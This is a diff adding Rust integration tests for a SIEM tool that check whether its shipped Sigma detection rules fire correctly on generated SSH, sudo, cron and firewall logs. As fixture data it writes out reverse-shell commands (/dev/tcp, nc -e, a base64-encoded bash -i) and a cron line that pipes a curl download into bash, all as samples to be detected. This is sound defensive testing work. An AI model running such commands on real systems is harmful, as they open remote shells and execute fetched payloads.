@@ -1,0 +1,509 @@
+//! Sigma rules through the real `siemtrigger`: the shipped example rules
+//! (`config/sigma/rules/`) fire exactly where intended over generated logs,
+//! a Sigma correlation gives the same alerts as the equivalent TOML rule
+//! (across runs: durable state, exactly once), refusals are loud, and
+//! `--import-sigma` prints rules that load.
+
+use std::path::{Path, PathBuf};
+
+use siemstress_tests::{Env, Kind, kinds};
+
+/// Epoch seconds of 2024-01-01T00:00:00Z.
+const BASE: i64 = 1_704_067_200;
+
+fn root() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("..")
+}
+
+/// An RFC3164 line `sec` seconds after BASE.
+fn line(sec: i64, host: &str, process: &str, msg: &str) -> String {
+    let t = chrono::DateTime::from_timestamp(BASE + sec, 0).unwrap();
+    format!(
+        "{} {host} {process}[100]: {msg}\n",
+        t.format("%b %e %H:%M:%S")
+    )
+}
+
+fn fail(sec: i64, user: &str, ip: &str) -> String {
+    line(
+        sec,
+        "web01",
+        "sshd",
+        &format!("Failed password for {user} from {ip} port 4242 ssh2"),
+    )
+}
+
+fn accept(sec: i64, user: &str, ip: &str) -> String {
+    line(
+        sec,
+        "web01",
+        "sshd",
+        &format!("Accepted password for {user} from {ip} port 4242 ssh2"),
+    )
+}
+
+fn sudo(sec: i64, user: &str, target: &str, command: &str) -> String {
+    line(
+        sec,
+        "web01",
+        "sudo",
+        &format!("{user} : TTY=pts/1 ; PWD=/home/{user} ; USER={target} ; COMMAND={command}"),
+    )
+}
+
+/// An env with sections auth and default (UTC), the Sigma files `files`
+/// (name, text) in `sigma/`, and `extra` config.
+fn setup(kind: Kind, files: &[(&str, String)], extra: &str) -> Env {
+    let env = Env::new(kind);
+    let dir = env.path().join("sigma");
+    std::fs::create_dir_all(&dir).unwrap();
+    for (name, text) in files {
+        std::fs::write(dir.join(name), text).unwrap();
+    }
+    env.config(&format!(
+        "[section.auth]\ntable = \"auth\"\ntimezone = \"UTC\"\n\n\
+         [section.default]\ntable = \"default\"\ntimezone = \"UTC\"\n\n\
+         [rules]\npaths = [\"sigma/*.yml\"]\n\n{extra}"
+    ));
+    env
+}
+
+fn shipped(name: &str) -> (&str, String) {
+    let path = root().join("config/sigma/rules").join(name);
+    let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{path:?}: {e}"));
+    (Box::leak(name.to_owned().into_boxed_str()) as &str, text)
+}
+
+fn ingest(env: &Env, section: &str, lines: &[String]) {
+    env.ingest(
+        &["-s", section, "--year", "2024"],
+        lines.concat().as_bytes(),
+    );
+}
+
+fn once(env: &Env) -> String {
+    let (code, out, err) = env.run("siemtrigger", &["--once"], b"");
+    assert_eq!(code, 0, "siemtrigger --once: {out}{err}");
+    err
+}
+
+/// (rule, key, ts s, first_ts s, count) of every alert, by rule then time.
+fn alerts(env: &Env) -> Vec<(String, String, i64, i64, i64)> {
+    let q = if env.kind == Kind::Mysql {
+        "`key`"
+    } else {
+        "\"key\""
+    };
+    env.rows(&format!(
+        "SELECT rule, {q}, ts, first_ts, count FROM alerts ORDER BY rule, ts, id"
+    ))
+    .into_iter()
+    .map(|r| {
+        let n = |i: usize| r[i].as_deref().unwrap().parse::<i64>().unwrap();
+        (
+            r[0].clone().unwrap(),
+            r[1].clone().unwrap(),
+            n(2) / 1000 - BASE,
+            n(3) / 1000 - BASE,
+            n(4),
+        )
+    })
+    .collect()
+}
+
+/// Event ids of each alert of `rule`, in time order.
+fn alert_event_ids(env: &Env, rule: &str) -> Vec<Vec<i64>> {
+    let ids = env.rows(&format!(
+        "SELECT id FROM alerts WHERE rule = '{rule}' ORDER BY ts, id"
+    ));
+    ids.into_iter()
+        .map(|r| {
+            let id = r[0].clone().unwrap();
+            env.rows(&format!(
+                "SELECT event_id FROM alert_events WHERE alert_id = {id} ORDER BY event_id"
+            ))
+            .into_iter()
+            .map(|r| r[0].as_deref().unwrap().parse().unwrap())
+            .collect()
+        })
+        .collect()
+}
+
+fn a(rule: &str, key: &str, ts: i64, first: i64, count: i64) -> (String, String, i64, i64, i64) {
+    (rule.into(), key.into(), ts, first, count)
+}
+
+#[test]
+fn shipped_sigma_rules_fire_exactly_where_intended() {
+    let files: Vec<(&str, String)> = [
+        "ssh_bruteforce.yml",
+        "ssh_password_spraying.yml",
+        "ssh_fail_then_success.yml",
+        "sudo_to_root.yml",
+        "user_added.yml",
+        "cron_suspicious.yml",
+        "reverse_shell.yml",
+        "firewall_bytes_sum.yml",
+    ]
+    .iter()
+    .map(|n| shipped(n))
+    .collect();
+    let mut auth = Vec::new();
+    // Brute force: 6 failures of root from .9 in 25 s (fires at the 5th);
+    // 4 from .7 in a minute (one short).
+    for i in 0..6 {
+        auth.push(fail(i * 5, "root", "10.0.0.9"));
+    }
+    for i in 0..4 {
+        auth.push(fail(i * 15, "root", "10.0.0.7"));
+    }
+    // Spraying: 4 users from .8 (fires at the 4th); 3 users (one repeated) from .6.
+    for (i, u) in ["a", "b", "c", "d"].iter().enumerate() {
+        auth.push(fail(100 + i as i64, u, "10.0.0.8"));
+    }
+    for (i, u) in ["a", "b", "a", "c"].iter().enumerate() {
+        auth.push(fail(100 + i as i64, u, "10.0.0.6"));
+    }
+    // Failure then success: d from .8 (fires at the success); a success
+    // without a failure; a success before a failure.
+    auth.push(accept(200, "d", "10.0.0.8"));
+    auth.push(accept(210, "e", "10.0.0.5"));
+    auth.push(accept(400, "f", "10.0.0.4"));
+    auth.push(fail(410, "f", "10.0.0.4"));
+    // sudo as root: fires for alice; not a failed attempt, another target, or root itself.
+    auth.push(sudo(500, "alice", "root", "/usr/bin/id"));
+    auth.push(line(
+        501,
+        "web01",
+        "sudo",
+        "mallory : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh",
+    ));
+    auth.push(sudo(502, "bob", "nobody", "/usr/bin/id"));
+    auth.push(sudo(503, "root", "root", "/usr/bin/id"));
+    // Reverse shells (as nobody: not sudo-to-root): /dev/tcp, nc -e, base64 bash -i.
+    auth.push(sudo(
+        600,
+        "bob",
+        "nobody",
+        "/bin/bash -c bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
+    ));
+    auth.push(sudo(
+        601,
+        "bob",
+        "nobody",
+        "/usr/bin/nc 203.0.113.5 4444 -e /bin/sh",
+    ));
+    auth.push(sudo(
+        602,
+        "bob",
+        "nobody",
+        "/bin/sh -c echo YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNS80NDQ0IDA+JjE= | base64 -d | sh",
+    ));
+    auth.push(sudo(603, "bob", "nobody", "/usr/bin/ncdu /tmp"));
+    auth.push(sudo(
+        604,
+        "bob",
+        "nobody",
+        "/usr/bin/python3 -m http.server",
+    ));
+    // User added, and a failed useradd.
+    auth.push(line(
+        700,
+        "web01",
+        "useradd",
+        "new user: name=eve, UID=1001, GID=1001, home=/home/eve, shell=/bin/bash, from=/dev/pts/0",
+    ));
+    auth.push(line(
+        701,
+        "web01",
+        "useradd",
+        "failed adding user 'x', exit code: 9",
+    ));
+    let mut default = vec![
+        // Cron: a download piped into a shell, a job in /tmp; a normal job.
+        line(
+            800,
+            "web02",
+            "CRON",
+            "(root) CMD (curl -s http://198.51.100.7/x.sh | bash)",
+        ),
+        line(801, "web02", "CRON", "(www) CMD (/tmp/.x/miner)"),
+        line(
+            802,
+            "web02",
+            "CRON",
+            "(root) CMD (cd / && run-parts --report /etc/cron.hourly)",
+        ),
+        line(
+            803,
+            "web02",
+            "CRON",
+            "(root) CMD (curl -s http://198.51.100.7/ok)",
+        ),
+    ];
+    // Bytes: .96 moves 1.1 MB in an hour (fires at the second); .97 0.9 MB.
+    let teardown = |sec: i64, ip: &str, bytes: u64| {
+        line(
+            sec,
+            "fw01",
+            "asa1",
+            &format!(
+                "%ASA-6-302014: Teardown TCP connection 4711 for outside:{ip}/51000 to inside:192.0.2.31/443 duration 0:00:30 bytes {bytes} TCP FINs"
+            ),
+        )
+    };
+    default.push(teardown(900, "203.0.113.96", 600_000));
+    default.push(teardown(901, "203.0.113.97", 400_000));
+    default.push(teardown(1900, "203.0.113.96", 500_000));
+    default.push(teardown(1901, "203.0.113.97", 500_000));
+    for kind in kinds() {
+        let env = setup(kind, &files, "");
+        ingest(&env, "auth", &auth);
+        ingest(&env, "default", &default);
+        let err = once(&env);
+        assert!(!err.contains("skipping"), "{err}");
+        let mut got = alerts(&env);
+        got.sort();
+        let mut want = vec![
+            a("ssh-brute-force", "10.0.0.9", 20, 0, 5),
+            a("ssh-password-spraying", "10.0.0.8", 103, 100, 4),
+            a("ssh-login-after-failures", "10.0.0.8 d", 200, 103, 2),
+            a("command-run-as-root-through-sudo", "web01", 500, 500, 1),
+            a("reverse-shell-command-line", "web01", 600, 600, 1),
+            a("reverse-shell-command-line", "web01", 601, 601, 1),
+            a("reverse-shell-command-line", "web01", 602, 602, 1),
+            a("linux-user-account-created", "web01", 700, 700, 1),
+            a("suspicious-cron-job-command", "web02", 800, 800, 1),
+            a("suspicious-cron-job-command", "web02", 801, 801, 1),
+            a(
+                "large-transfer-from-one-address",
+                "203.0.113.96",
+                1900,
+                900,
+                1_100_000,
+            ),
+        ];
+        want.sort();
+        assert_eq!(got, want, "{kind:?}");
+        // A second run raises nothing again.
+        once(&env);
+        assert_eq!(alerts(&env).len(), want.len(), "{kind:?}");
+        // --explain works on a Sigma rule's alert.
+        let id = env.rows("SELECT id FROM alerts WHERE rule = 'ssh-brute-force'")[0][0]
+            .clone()
+            .unwrap();
+        let (code, out, err) = env.run("siemtrigger", &["--explain", &id], b"");
+        assert_eq!(code, 0, "{out}{err}");
+        assert!(
+            out.contains("ssh-brute-force") && out.contains("10.0.0.9"),
+            "{out}"
+        );
+    }
+}
+
+/// The Sigma brute force and spraying correlations, and the TOML rules a
+/// person would write for them.
+const TOML_EQUIVALENTS: &str = r#"
+[[rule]]
+name = "toml-brute"
+type = "threshold"
+table = "auth"
+match = { process = ["sshd"], regex = 'sshd\[\d+\]: Failed (?:password|publickey) for ' }
+key = "{source_host}"
+window = "60s"
+threshold = 5
+
+[[rule]]
+name = "toml-spray"
+type = "threshold"
+table = "auth"
+match = { process = ["sshd"], regex = 'sshd\[\d+\]: Failed password for ' }
+key = "{source_host}"
+window = "10m"
+threshold = 4
+distinct = "user"
+"#;
+
+#[test]
+fn sigma_correlations_equal_their_toml_rules_across_runs() {
+    let files = vec![
+        shipped("ssh_bruteforce.yml"),
+        shipped("ssh_password_spraying.yml"),
+    ];
+    // A pseudo-random stream of failures: 6 addresses, 8 users, gaps of 0-20 s.
+    let mut lines = Vec::new();
+    let mut x: u64 = 0x2545_f491_4f6c_dd1d;
+    let mut t = 0;
+    for _ in 0..600 {
+        x ^= x << 13;
+        x ^= x >> 7;
+        x ^= x << 17;
+        t += (x % 21) as i64;
+        let ip = format!("198.51.100.{}", (x >> 8) % 6);
+        let user = format!("u{}", (x >> 16) % 8);
+        lines.push(fail(t, &user, &ip));
+        if (x >> 24).is_multiple_of(9) {
+            lines.push(accept(t, &user, &ip));
+        }
+    }
+    for kind in kinds() {
+        let env = setup(kind, &files, TOML_EQUIVALENTS);
+        // In two halves, with a run after each: state carries over.
+        let (first, second) = lines.split_at(lines.len() / 2);
+        ingest(&env, "auth", first);
+        once(&env);
+        ingest(&env, "auth", second);
+        once(&env);
+        for (sigma, toml) in [
+            ("ssh-brute-force", "toml-brute"),
+            ("ssh-password-spraying", "toml-spray"),
+        ] {
+            let of = |rule: &str| -> Vec<(String, i64, i64, i64)> {
+                alerts(&env)
+                    .into_iter()
+                    .filter(|r| r.0 == rule)
+                    .map(|r| (r.1, r.2, r.3, r.4))
+                    .collect()
+            };
+            let s = of(sigma);
+            assert!(s.len() >= 3, "{kind:?} {sigma}: {s:?}");
+            assert_eq!(s, of(toml), "{kind:?} {sigma}");
+            assert_eq!(
+                alert_event_ids(&env, sigma),
+                alert_event_ids(&env, toml),
+                "{kind:?} {sigma}"
+            );
+        }
+    }
+}
+
+const BAD: &str = "title: Windows Thing\nid: bad-1\nlogsource:\n  product: windows\n  service: security\n\
+                   detection:\n  sel:\n    EventID: 4625\n  condition: sel\n\
+                   ---\ntitle: Old Aggregation\nid: bad-2\nlogsource:\n  product: linux\n  service: sshd\n\
+                   detection:\n  sel:\n    Message|startswith: Failed\n  condition: sel | count() by SourceIp > 5\n\
+                   ---\ntitle: Expand Placeholder\nid: bad-3\nlogsource:\n  product: linux\n\
+                   detection:\n  sel:\n    User|expand: '%admins%'\n  condition: sel\n";
+
+#[test]
+fn untranslatable_rules_are_refused_loudly() {
+    for kind in kinds() {
+        let env = setup(
+            kind,
+            &[shipped("user_added.yml"), ("bad.yml", BAD.to_owned())],
+            "",
+        );
+        let (code, out, err) = env.run("siemtrigger", &["--check"], b"");
+        assert_eq!(code, 0, "{out}{err}");
+        assert!(out.contains("linux-user-account-created"), "{out}");
+        for (id, why) in [
+            ("bad-1", "field EventID is not mapped"),
+            ("bad-2", "pipe aggregation"),
+            ("bad-3", "modifier expand is not supported"),
+        ] {
+            let l = err
+                .lines()
+                .find(|l| l.contains(id))
+                .unwrap_or_else(|| panic!("{id} not named: {err}"));
+            assert!(l.contains("bad.yml") && l.contains(why), "{l}");
+        }
+        assert!(err.contains("3 rules not loaded, from 1 files"), "{err}");
+        // --import-sigma: the good rule as TOML, the others named; exit 1.
+        let dir = env.path().join("sigma");
+        let (code, out, err) = env.run(
+            "siemtrigger",
+            &["--import-sigma", dir.to_str().unwrap()],
+            b"",
+        );
+        assert_eq!(code, 1, "{out}{err}");
+        assert!(
+            out.contains("name = \"linux-user-account-created\""),
+            "{out}"
+        );
+        assert_eq!(err.matches("bad.yml").count(), 3, "{err}");
+        assert!(err.contains("1 Sigma rules translated, 3 not"), "{err}");
+    }
+}
+
+#[test]
+fn imported_toml_loads_and_gives_the_same_alerts() {
+    for kind in kinds() {
+        let env = setup(kind, &[shipped("ssh_fail_then_success.yml")], "");
+        let (code, toml, err) = env.run(
+            "siemtrigger",
+            &[
+                "--import-sigma",
+                root()
+                    .join("config/sigma/rules/ssh_fail_then_success.yml")
+                    .to_str()
+                    .unwrap(),
+            ],
+            b"",
+        );
+        assert_eq!(code, 0, "{err}");
+        // The same rule as TOML, under another name, next to the Sigma one.
+        let toml = toml.replace("ssh-login-after-failures", "as-toml");
+        std::fs::write(env.path().join("imported.toml"), &toml).unwrap();
+        env.config(
+            "[section.auth]\ntable = \"auth\"\ntimezone = \"UTC\"\n\n\
+             [rules]\npaths = [\"sigma/*.yml\", \"imported.toml\"]\n",
+        );
+        ingest(
+            &env,
+            "auth",
+            &[
+                fail(0, "a", "10.0.0.1"),
+                accept(30, "a", "10.0.0.1"),
+                accept(40, "b", "10.0.0.1"),
+                fail(50, "b", "10.0.0.1"),
+                fail(60, "c", "10.0.0.2"),
+                accept(700, "c", "10.0.0.2"),
+            ],
+        );
+        once(&env);
+        let got = alerts(&env);
+        assert_eq!(
+            got,
+            [
+                a("as-toml", "10.0.0.1 a", 30, 0, 2),
+                a("ssh-login-after-failures", "10.0.0.1 a", 30, 0, 2),
+            ],
+            "{kind:?}"
+        );
+    }
+}
+
+#[test]
+fn logsource_and_field_mapping_come_from_the_config() {
+    let rule = "title: Su To Root\nid: su-1\nlogsource:\n  product: linux\n  service: su\n\
+                detection:\n  sel:\n    Program: su\n    Target: root\n  condition: sel\n";
+    for kind in kinds() {
+        // Unmapped field: refused, naming the way to map it.
+        let env = setup(kind, &[("su.yml", rule.to_owned())], "");
+        let (_, _, err) = env.run("siemtrigger", &["--check"], b"");
+        assert!(err.contains("field Target is not mapped"), "{err}");
+        // Mapped in the config, and the logsource moved to the default section.
+        let env = setup(
+            kind,
+            &[("su.yml", rule.to_owned())],
+            "[sigma.fields]\nTarget = \"extra.target_user\"\n\n[sigma.logsource]\n\"linux/su\" = \"default\"\n",
+        );
+        let (code, out, err) = env.run("siemtrigger", &["--check"], b"");
+        assert_eq!(code, 0, "{out}{err}");
+        assert!(out.contains("su-to-root\tsingle\tmedium\tdefault"), "{out}");
+        ingest(
+            &env,
+            "default",
+            &[
+                line(0, "h1", "su", "(to root) alice on pts/0"),
+                line(1, "h1", "su", "(to bob) alice on pts/0"),
+            ],
+        );
+        ingest(
+            &env,
+            "auth",
+            &[line(2, "h1", "su", "(to root) carol on pts/0")],
+        );
+        once(&env);
+        assert_eq!(alerts(&env), [a("su-to-root", "h1", 0, 0, 1)], "{kind:?}");
+    }
+}
